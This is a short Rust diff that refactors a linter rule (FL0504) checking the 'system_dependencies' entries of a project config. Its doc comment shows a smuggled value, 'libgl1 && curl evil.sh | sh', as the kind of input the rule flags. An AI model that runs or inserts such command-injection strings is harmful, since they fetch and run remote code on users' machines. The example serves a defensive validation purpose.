@@ -1,6 +1,6 @@
 use crate::diagnostic::Diagnostic;
 use crate::load::Value;
-use crate::validate::Project;
+use crate::project::Project;
 
 declare_rule! {
     /// ## What it does
@@ -15,10 +15,10 @@ declare_rule! {
     /// ```yaml
     /// system_dependencies: [ffmpeg, "libgl1 && curl evil.sh | sh"]   # not a package name
     /// ```
-    pub static SYSTEM_DEPENDENCY = ("FL0504", "system-dependency", Error, check);
+    pub static SYSTEM_DEPENDENCY = ("FL0504", "system-dependency", Error);
 }
 
-fn check(project: &Project, out: &mut Vec<Diagnostic>) {
+pub(super) fn check(project: &Project, out: &mut Vec<Diagnostic>) {
     for endpoint in &project.endpoints {
         let Some(list) = endpoint.node.get("system_dependencies") else {
             continue;
